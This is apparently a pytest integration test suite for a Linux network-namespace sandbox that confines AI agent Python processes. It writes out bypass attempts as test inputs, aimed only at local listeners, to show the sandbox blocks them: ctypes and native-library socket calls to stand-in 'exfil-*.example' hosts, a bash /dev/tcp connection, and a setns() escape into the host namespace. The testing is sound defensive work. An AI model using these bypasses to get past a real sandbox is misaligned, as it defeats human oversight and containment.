"""The Linux OS layer: what the in-process guard cannot stop, the network namespace does.

Each test runs a real interpreter of the shim's virtual environment through a wrapper script
(``agenshield-shim wrapper --sandbox netns``), with the reference broker listening on a Unix
socket (and on 127.0.0.1 outside, which the namespace cannot see) and a loopback upstream in the
test runner's process. A refusal is proven by a listener outside that received nothing; each
bypass is also run without the wrapper, to show that the guard alone lets it through.

These tests are never skipped on CI: a machine where neither bubblewrap nor ``unshare --net`` as
root works fails here with the reason, because a skip would hide exactly the gap they are about.
"""

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from pathlib import Path
from typing import Any, Dict, Iterator

import pytest

from agenshield_shim.sandbox import netns
from agenshield_shim.wrapper import generate_python_wrapper

from . import netns_harness
from .conftest import PYTHONS, ROOT, Listener, ShimEnv, clean_env, skip_unless_local

pytestmark = [pytest.mark.integration]
if not sys.platform.startswith("linux"):
    pytestmark.append(pytest.mark.skip(reason="network namespaces are Linux only (macOS: see test_seatbelt.py)"))

CURL = "/usr/bin/curl"

CTYPES_CONNECT = r"""
import ctypes, errno, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H", int(sys.argv[2])) + socket.inet_aton(sys.argv[1]) + bytes(8)
rc = libc.connect(fd, ctypes.c_char_p(addr), len(addr))
print(rc, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()) if rc else "connected")
"""

PLAIN_CONNECT = r"""
import socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5).close()
    print("connected")
except OSError as exc:
    print("refused", type(exc).__name__, exc.errno)
"""


def _need_backend(backend: "str | None" = None) -> str:
    """The backend to use; fail (never skip) on CI when there is none."""
    try:
        return netns.find_backend(backend)
    except netns.NetnsUnavailable as exc:
        # Say what is missing, and only that: each reason names its tool and how to get it.
        if backend is not None:
            message = "this test needs the %s backend: %s" % (backend, netns.why_unavailable(backend))
        else:
            message = "the OS layer cannot be tested here: %s" % exc
        if backend is not None and not os.environ.get("CI"):
            pytest.skip(message)
        pytest.fail(message)
        raise


@pytest.fixture(scope="session")
def backend() -> str:
    return _need_backend()


def make_wrapper(shim: ShimEnv, broker: object, out: Path, backend: str) -> Path:
    generate_python_wrapper(shim.python, str(out), sandbox="netns", broker_port=broker.port,  # type: ignore[attr-defined]
                            broker_socket=broker.socket_path, netns_backend=backend)  # type: ignore[attr-defined]
    return out


@pytest.fixture
def wrapped(shim: ShimEnv, unix_broker: object, backend: str, tmp_path: Path) -> Path:
    return make_wrapper(shim, unix_broker, tmp_path / "agent-python", backend)


def run(wrapper: Path, *args: str, timeout: float = 60, **env: str) -> "subprocess.CompletedProcess[str]":
    return subprocess.run([str(wrapper), *args], env=clean_env(**env), capture_output=True, text=True, timeout=timeout)


@pytest.fixture
def outside() -> Iterator[Listener]:
    """A listener outside the namespace, on 127.0.0.2: what nothing inside may reach."""
    listener = Listener("127.0.0.2")
    yield listener
    listener.close()


# -- the four proofs ----------------------------------------------------------------------------------------


def test_ctypes_connect_reaches_nothing(shim: ShimEnv, wrapped: Path, outside: Listener) -> None:
    # Without the OS layer, native code walks past the guard ...
    bare = shim.run(CTYPES_CONNECT, outside.host, str(outside.port))
    assert bare.stdout.split() == ["0", "connected"], bare.stdout + bare.stderr
    assert outside.settle() == 1
    # ... inside the namespace it reaches nothing.
    result = run(wrapped, "-c", CTYPES_CONNECT, outside.host, str(outside.port))
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[0] == "-1", result.stdout
    assert result.stdout.split()[1] in ("ECONNREFUSED", "ENETUNREACH"), result.stdout
    assert outside.settle() == 1  # still only the unwrapped hit


def test_python_without_site_reaches_nothing(shim: ShimEnv, bare: ShimEnv, wrapped: Path, outside: Listener) -> None:
    unguarded = shim.run(PLAIN_CONNECT, outside.host, str(outside.port), python_args=("-S",))
    assert unguarded.stdout.strip() == "connected", unguarded.stdout + unguarded.stderr  # no site, no shim
    assert outside.settle() == 1
    for flags in (("-S",), ("-I", "-S")):
        result = run(wrapped, *flags, "-c", PLAIN_CONNECT, outside.host, str(outside.port))
        assert result.returncode == 0, result.stderr
        assert result.stdout.startswith("refused ConnectionRefusedError"), result.stdout
    assert outside.settle() == 1
    # A Python of another environment (no shim installed), started by the guarded one: out without
    # the namespace, nowhere inside it.
    child = "import subprocess, sys; print(subprocess.run(sys.argv[1:], capture_output=True, text=True).stdout.strip())"
    other = [bare.python, "-c", PLAIN_CONNECT, outside.host, str(outside.port)]
    assert shim.run(child, *other).stdout.strip() == "connected"
    assert outside.settle() == 2
    result = run(wrapped, "-c", child, *other)
    assert result.stdout.startswith("refused ConnectionRefusedError"), result.stdout + result.stderr
    assert outside.settle() == 2


def test_child_with_the_shim_switched_off_reaches_nothing(wrapped: Path, outside: Listener) -> None:
    """A child started with AGENSHIELD_ENABLED=false inherits the namespace all the same; UDP too."""
    code = r"""
import socket, subprocess, sys
child = subprocess.run([sys.executable, "-c", sys.argv[1], sys.argv[2], sys.argv[3]],
                       env={"AGENSHIELD_ENABLED": "false"}, capture_output=True, text=True)
print(child.stdout.strip() or child.stderr)
"""
    result = run(wrapped, "-c", code, PLAIN_CONNECT, outside.host, str(outside.port))
    assert result.stdout.startswith("refused ConnectionRefusedError"), result.stdout + result.stderr
    udp = Listener("127.0.0.2", socket.SOCK_DGRAM)
    try:
        send = "import socket, sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (sys.argv[1], int(sys.argv[2])))"
        sent = run(wrapped, "-S", "-c", send, udp.host, str(udp.port))
        assert sent.returncode == 0, sent.stderr  # the datagram goes to the namespace's own lo ...
        assert udp.settle() == 0  # ... and never arrives outside
    finally:
        udp.close()
    assert outside.settle() == 0


def test_curl_reaches_only_the_broker(shim: ShimEnv, wrapped: Path, unix_broker: object, upstream: object,
                                      outside: Listener) -> None:
    assert os.path.exists(CURL), "curl is needed for this test (.ci/run installs it)"
    tag = uuid.uuid4().hex
    code = r"""
import subprocess, sys
curl, outside, upstream, broker = sys.argv[1:5]
def curl_code(*args):
    r = subprocess.run([curl, "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", *args], capture_output=True, text=True)
    return "%d:%s" % (r.returncode, r.stdout)
print(curl_code("--noproxy", "*", outside))   # a listener outside (directly: the proxy variables name the broker)
print(curl_code("--noproxy", "*", upstream))  # the upstream, directly
print(curl_code("-x", broker, upstream))   # the upstream, through the broker (the relay)
host, port = outside.split("/")[2].split(":")  # a shell ignores the proxy variables: bash's /dev/tcp
print("shell:%d" % subprocess.run(["bash", "-c", 'exec 3<>"/dev/tcp/$0/$1"', host, port], capture_output=True).returncode)
"""
    upstream_url = "%s/echo?tag=%s" % (upstream.http_url, tag)  # type: ignore[attr-defined]
    broker_url = "http://localhost:%d" % unix_broker.port  # type: ignore[attr-defined]
    mark = unix_broker.mark()  # type: ignore[attr-defined]
    result = run(wrapped, "-c", code, CURL, "http://%s:%d/" % (outside.host, outside.port), upstream_url, broker_url)
    assert result.returncode == 0, result.stderr
    direct_outside, direct_upstream, via_broker, shell = result.stdout.split()
    assert direct_outside.split(":")[0] == "7", direct_outside  # curl: couldn't connect
    assert direct_upstream.split(":")[0] == "7", direct_upstream
    assert via_broker == "0:200", via_broker
    assert shell == "shell:1", shell
    assert outside.settle() == 0
    assert upstream.request_count(tag) == 1  # type: ignore[attr-defined]  (the proxied one only)
    assert unix_broker.forwards(tag, mark)  # type: ignore[attr-defined]
    # The guard alone does not stop them: the same children, started by a guarded Python without the namespace.
    unwrapped = shim.run(code, CURL, "http://%s:%d/" % (outside.host, outside.port), upstream_url, broker_url)
    assert unwrapped.stdout.split()[0].split(":")[0] != "7" and unwrapped.stdout.split()[3] == "shell:0", unwrapped.stdout
    assert outside.settle() == 2


def test_routed_requests_still_work(shim: ShimEnv, wrapped: Path, unix_broker: object, upstream: object) -> None:
    """The shim inside finds the broker at localhost:PORT, which is the relay to its Unix socket."""
    tag = uuid.uuid4().hex
    code = r"""
import json, socket, sys, urllib.request
port, url = int(sys.argv[1]), sys.argv[2]
# 1. by hand: an absolute-form request to the broker's port inside the namespace
s = socket.create_connection(("localhost", port), timeout=10)
s.sendall(("GET %s&n=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % url).encode())
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
print(data.split(b"\r\n", 1)[0].decode())
# 2. urllib.request, routed by the shim's hooks
with urllib.request.urlopen(url + "&n=2", timeout=10) as response:
    print(response.status, json.loads(response.read())["path"])
"""
    mark = unix_broker.mark()  # type: ignore[attr-defined]
    url = "%s/echo?tag=%s" % (upstream.http_url, tag)  # type: ignore[attr-defined]
    result = run(wrapped, "-c", code, str(unix_broker.port), url)  # type: ignore[attr-defined]
    assert result.returncode == 0, result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "HTTP/1.1 200 OK", lines
    assert lines[1] == "200 /echo", lines
    assert upstream.request_count(tag) == 2  # type: ignore[attr-defined]
    entries = [e for e in unix_broker.audit(mark) if tag in str(e.get("target")) or e.get("operation") == "connect"]  # type: ignore[attr-defined]
    assert entries and all(e.get("metadata", {}).get("peer") in ("unix", None) for e in entries), entries


# -- native code inside libraries: Tcl (tkinter), libuv (uvloop), libcurl (pycurl) --------------------------
#
# Each attack runs beside netns_harness.py's servers (a resolver that answers every name with
# 127.0.0.2, a TCP and a UDP listener there), in a namespace the test makes: once in the guarded
# interpreter, where it reaches them (the guard sees no Python socket: this is also the control that
# the attack works), and once through the wrapper, whose own namespace is inside that one, where
# nothing of it arrives: no connection, no DNS query.

ATTEMPT = """
import socket, sys
HOST, PORT, UPORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
def attempt(what, call):
    try:
        call()
        print(what, "DONE")
    except Exception as exc:
        print(what, "FAILED", type(exc).__name__, exc)
"""

NATIVE_PRELUDE = ATTEMPT + """
try:  # the guard is on: Python's own sockets are refused
    socket.create_connection((HOST, PORT), timeout=5).close()
    print("guard off")
except OSError as exc:
    print("guard", type(exc).__name__)
"""

NATIVE_ATTACKS = {
    # Tcl's own socket command: libtcl calls getaddrinfo() and connect(); no display needed for Tcl().
    "tkinter": """
        import tkinter
        tcl = tkinter.Tcl()
        attempt("address", lambda: tcl.eval("close [socket %s %d]" % (HOST, PORT)))
        attempt("name", lambda: tcl.eval("close [socket exfil-tcl.example %d]" % PORT))
    """,
    # libuv's TCP connect and its getaddrinfo (run in libuv's thread pool): no Python socket object.
    "uvloop": """
        import asyncio, uvloop
        loop = uvloop.new_event_loop()
        async def connect(host):
            transport, _ = await loop.create_connection(asyncio.Protocol, host, PORT)
            transport.close()
        attempt("address", lambda: loop.run_until_complete(connect(HOST)))
        attempt("name", lambda: loop.run_until_complete(connect("exfil-uvloop-connect.example")))
        attempt("getaddrinfo", lambda: loop.run_until_complete(loop.getaddrinfo("exfil-uvloop.example", 80)))
    """,
    # libcurl's connect and resolver, straight to the host (NOPROXY: the proxy variables name the broker).
    "pycurl": """
        import pycurl
        def fetch(url):
            curl = pycurl.Curl()
            curl.setopt(pycurl.URL, url)
            curl.setopt(pycurl.NOPROXY, "*")
            curl.setopt(pycurl.CONNECTTIMEOUT, 5)
            curl.setopt(pycurl.TIMEOUT, 5)
            curl.setopt(pycurl.WRITEFUNCTION, lambda data: None)
            try:
                curl.perform()
            except pycurl.error as exc:
                if exc.args[0] not in (pycurl.E_GOT_NOTHING, pycurl.E_RECV_ERROR):
                    raise  # those two: the listener closed at once, so it was reached
        attempt("address", lambda: fetch("http://%s:%d/" % (HOST, PORT)))
        attempt("name", lambda: fetch("http://exfil-pycurl.example:%d/" % PORT))
    """,
}

#: The names each attack asks the resolver for (each also connects twice: to the address, to the name).
NATIVE_NAMES = {
    "tkinter": {"exfil-tcl.example"},
    "uvloop": {"exfil-uvloop-connect.example", "exfil-uvloop.example"},
    "pycurl": {"exfil-pycurl.example"},
}


@pytest.fixture
def native_env(shim: ShimEnv, shim_env_factory: object) -> ShimEnv:
    """The shim's venv of this Python with uvloop and pycurl, from their binary wheels (libuv and libcurl
    inside): for 3.8 the newest pycurl is a source archive, which would need libcurl's headers."""
    return shim_env_factory(shim.version, "uvloop", "pycurl",  # type: ignore[operator,no-any-return]
                            pip_args=("--only-binary", "uvloop,pycurl"))


def _need_tkinter(env: ShimEnv) -> None:
    """Skip a Python built without _tkinter; a _tkinter that cannot load (no libtcl) fails on CI."""
    probe = env.run("import tkinter; tkinter.Tcl()", env={"AGENSHIELD_ENABLED": "false"})
    if probe.returncode == 0:
        return
    if "No module named '_tkinter'" in probe.stderr:
        pytest.skip("Python %s was built without _tkinter" % env.version)
    skip_unless_local("tkinter.Tcl() fails in Python %s (.ci/run installs libtk8.6): %s"
                      % (env.version, probe.stderr.strip().splitlines()[-1:]))


def _beside_the_servers(argv: "list[str]", code: str, tmp_path: Path, name: str) -> Dict[str, Any]:
    """Run ``argv -c code`` beside netns_harness.py's servers: what reached them."""
    if not netns_harness.usable():
        skip_unless_local("unshare -n -m (root or user namespaces) and ip are needed to catch DNS queries")
    workdir = tmp_path / name
    workdir.mkdir()
    return netns_harness.run_beside(argv + ["-c", code], clean_env(), workdir)


@pytest.mark.parametrize("library", sorted(NATIVE_ATTACKS))
def test_native_library_sockets_reach_nothing(library: str, native_env: ShimEnv, unix_broker: object,
                                              backend: str, tmp_path: Path) -> None:
    if library == "tkinter":
        _need_tkinter(native_env)
    code = NATIVE_PRELUDE + textwrap.dedent(NATIVE_ATTACKS[library])
    # In the guarded interpreter (no namespace of its own) native code walks past the guard ...
    guarded = _beside_the_servers([native_env.python], code, tmp_path, "guarded")
    assert guarded["returncode"] == 0 and "FAILED" not in guarded["output"], guarded
    assert guarded["output"].startswith("guard NetworkBlockedError"), guarded
    assert guarded["tcp"] == 2 and NATIVE_NAMES[library] <= set(guarded["queries"]), guarded
    # ... through the wrapper, inside a namespace of its own, it reaches nothing.
    wrapper = make_wrapper(native_env, unix_broker, tmp_path / "agent-python", backend)
    wrapped = _beside_the_servers([str(wrapper)], code, tmp_path, "wrapped")
    assert wrapped["returncode"] == 0, wrapped
    assert wrapped["output"].startswith("guard NetworkBlockedError") and "DONE" not in wrapped["output"], wrapped
    assert (wrapped["tcp"], wrapped["udp"], wrapped["queries"]) == (0, 0, []), wrapped


NO_GUARD = ATTEMPT + """
attempt("tcp", lambda: socket.create_connection((HOST, PORT), timeout=5).close())
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (HOST, UPORT)))
attempt("dns", lambda: socket.getaddrinfo("exfil-noguard.example", 80))
attempt("reverse", lambda: socket.gethostbyaddr("127.1.2.3"))
attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
"""


def test_without_the_guard_nothing_leaves(shim: ShimEnv, unix_broker: object, backend: str, tmp_path: Path) -> None:
    """The OS layer's column of the README's table: whatever an attack does to the guard, at worst the
    code runs with no guard at all (``python -S``); even then TCP, UDP, DNS (forward and reverse) and
    raw sockets reach nothing outside the namespace."""
    control = _beside_the_servers([shim.python, "-S"], NO_GUARD, tmp_path, "control")
    assert "tcp DONE" in control["output"] and (control["tcp"], control["udp"]) == (1, 1), control
    assert {"exfil-noguard.example", "3.2.1.127.in-addr.arpa"} <= set(control["queries"]), control
    if os.geteuid() == 0:
        assert "raw DONE" in control["output"], control
    wrapper = make_wrapper(shim, unix_broker, tmp_path / "agent-python", backend)
    wrapped = _beside_the_servers([str(wrapper), "-S"], NO_GUARD, tmp_path, "wrapped")
    assert (wrapped["tcp"], wrapped["udp"], wrapped["queries"]) == (0, 0, []), wrapped
    assert "tcp FAILED ConnectionRefusedError" in wrapped["output"], wrapped
    assert "raw FAILED PermissionError" in wrapped["output"], wrapped  # the relay dropped CAP_NET_RAW


def test_unix_sockets_cross_the_namespace(shim: ShimEnv, wrapped: Path) -> None:
    """By design (README): the namespace isolates the network, not the file system; the guard allows them."""
    path = os.path.join(tempfile.mkdtemp(prefix="agsu-"), "s.sock")  # AF_UNIX paths: ~107 bytes at most
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(8)
    server.settimeout(5)
    code = "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\nprint('connected')"
    try:
        assert shim.run(code, path).stdout.strip() == "connected"
        result = run(wrapped, "-c", code, path)
        assert result.stdout.strip() == "connected", result.stdout + result.stderr
        for _ in range(2):
            server.accept()[0].close()  # both connections arrived (a third accept would time out)
    finally:
        server.close()
        shutil.rmtree(os.path.dirname(path), ignore_errors=True)


# -- what the namespace itself must hold --------------------------------------------------------------------

ESCAPE = r"""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith(("CapEff", "CapPrm", "CapBnd"))]
try:
    fd = os.open("/proc/%s/ns/net" % sys.argv[1], os.O_RDONLY)
except OSError as exc:  # without CAP_SYS_PTRACE another root process's files cannot even be opened
    print(" ".join(caps), "open", errno.errorcode[exc.errno])
else:
    rc = libc.setns(fd, 0x40000000)  # CLONE_NEWNET: into that process's (the host's) namespace
    print(" ".join(caps), rc, errno.errorcode.get(ctypes.get_errno(), "0") if rc else "escaped")
"""


@pytest.fixture
def host_process() -> Iterator[int]:
    """A process of the test runner's user in the host's network namespace, to try setns() into."""
    proc = subprocess.Popen(["sleep", "300"])
    yield proc.pid
    proc.kill()
    proc.wait()


def test_no_way_back_to_the_host_namespace(wrapped: Path, host_process: int) -> None:
    """Root keeps CAP_SYS_ADMIN through unshare/bwrap; the relay drops it, so setns() fails."""
    result = run(wrapped, "-S", "-c", ESCAPE, str(host_process))
    assert result.returncode == 0, result.stderr
    *caps, step, err = result.stdout.split()
    assert set(caps) == {"0000000000000000"}, caps
    assert (step, err) in (("open", "EACCES"), ("open", "EPERM"), ("-1", "EPERM")), result.stdout


def test_exit_status_and_arguments_pass_through(wrapped: Path) -> None:
    result = run(wrapped, "-c", "import sys; print(sys.argv[1:]); sys.exit(5)", "a b", "$HOME", "")
    assert result.returncode == 5
    assert result.stdout.strip() == "['a b', '$HOME', '']"
    killed = run(wrapped, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)")
    assert killed.returncode in (-9, 137), killed.returncode


def _alive(pid: int) -> bool:
    try:
        with open("/proc/%d/stat" % pid) as handle:
            return handle.read().split(")")[-1].split()[0] != "Z"
    except FileNotFoundError:
        return False


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
def test_relay_and_command_die_together(wrapped: Path, sig: int) -> None:
    """Stopping the wrapper stops the command; the command ending ends the relay (no stray process)."""
    code = "import os, sys, time; print(os.getpid(), os.getppid(), flush=True); time.sleep(120)"
    proc = subprocess.Popen([str(wrapped), "-c", code], env=clean_env(), stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        command_pid, relay_pid = map(int, proc.stdout.readline().split())
        assert _alive(command_pid) and _alive(relay_pid)
        proc.send_signal(sig)
        proc.wait(30)
        deadline = time.monotonic() + 10
        while (_alive(command_pid) or _alive(relay_pid)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _alive(command_pid), "the command outlived the wrapper"
        assert not _alive(relay_pid), "the relay outlived the wrapper"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        if proc.stdout:
            proc.stdout.close()


def test_relay_ends_with_the_command(wrapped: Path) -> None:
    result = run(wrapped, "-c", "import os; print(os.getppid())")
    relay_pid = int(result.stdout)
    deadline = time.monotonic() + 5
    while _alive(relay_pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(relay_pid)


@pytest.mark.parametrize("which", netns.BACKENDS)
def test_each_backend(which: str, shim_env_factory: object, unix_broker: object, upstream: object,
                      outside: Listener, tmp_path: Path, host_process: int) -> None:
    """Both ways into a namespace hold: ctypes refused, setns refused, the broker reachable.

    On the oldest Python available, which also runs the relay (it must stay 3.8-compatible).
    """
    _need_backend(which)
    oldest = min(PYTHONS, key=lambda v: tuple(map(int, v.split("."))))
    env = shim_env_factory(oldest)  # type: ignore[operator]
    wrapper = make_wrapper(env, unix_broker, tmp_path / "w", which)
    assert ("--unshare-net" in wrapper.read_text()) == (which == "bwrap")
    result = run(wrapper, "-c", CTYPES_CONNECT, outside.host, str(outside.port))
    assert result.stdout.split()[0] == "-1", result.stdout + result.stderr
    assert run(wrapper, "-S", "-c", ESCAPE, str(host_process)).stdout.split()[-1] in ("EACCES", "EPERM")
    if os.geteuid() == 0:
        # Why the relay drops capabilities: the same namespace without that step lets root out.
        bare = netns.backend_prefix(which, which) + [env.python, "-S", "-c", ESCAPE, str(host_process)]
        escaped = subprocess.run(bare, env=clean_env(), capture_output=True, text=True, timeout=60)
        assert escaped.stdout.split()[-1] == "escaped", escaped.stdout + escaped.stderr
    tag = uuid.uuid4().hex
    fetched = run(wrapper, "-c", "import urllib.request, sys; print(urllib.request.urlopen(sys.argv[1], timeout=10).status)",
                  "%s/echo?tag=%s" % (upstream.http_url, tag))  # type: ignore[attr-defined]
    assert fetched.stdout.strip() == "200", fetched.stdout + fetched.stderr
    assert upstream.request_count(tag) == 1  # type: ignore[attr-defined]
    assert outside.settle() == 0


def test_relay_file_is_the_target_environments_own(wrapped: Path, shim: ShimEnv) -> None:
    """The wrapper runs the relay from the target environment, so it survives this checkout."""
    text = wrapped.read_text()
    assert str(shim.root) in text.split("--unix")[0].split("-S", 1)[1]
    assert str(ROOT) not in text
